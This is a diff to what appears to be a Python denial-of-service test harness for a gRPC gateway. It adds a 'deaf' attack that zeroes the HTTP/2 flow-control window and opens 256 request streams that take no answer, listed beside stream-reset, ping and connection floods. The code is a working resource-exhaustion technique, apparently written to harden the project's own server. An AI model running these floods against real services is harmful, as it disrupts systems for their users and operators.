@@ -362,6 +362,18 @@ def streams(count: int, block: bytes, reset: bool) -> Attack:
     return attack
 
 
+async def deaf(target: Target) -> None:
+    """Ask on streams whose flow control lets no answer through."""
+    reader, writer = await asyncio.open_connection(target.host, target.grpc_port)
+    writer.write(BEGIN + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+    raw = pea_pb2.Envelope(header=pea_pb2.Header(id="x", kind=pea_pb2.SEARCH), bodies=[SMALL]).SerializeToString()
+    for number in range(1, 2 * 256, 2):
+        writer.write(frame(HEADERS, 4, number, call("/peavine.v1.Gateway/Call")))
+        writer.write(frame(DATA, 0, number, b"\0" + len(raw).to_bytes(4, "big") + raw))
+        await writer.drain()
+    await reader.read(-1)
+
+
 async def pings(target: Target) -> None:
     reader, writer = await asyncio.open_connection(target.host, target.grpc_port)
     writer.write(BEGIN)
@@ -404,6 +416,7 @@ ATTACKS: dict[str, Attack] = {
     "10,000 heads of 12 KB, reset": streams(10_000, call("/peavine.v1.Gateway/Search", x="y" * 12_000), reset=True),
     "500,000 pings": pings,
     "1,500 gRPC connections": grpc_connections,
+    "256 streams that take no answer": deaf,
     "5,000 Call streams": streams(5_000, call("/peavine.v1.Gateway/Call"), reset=False),
 }
 
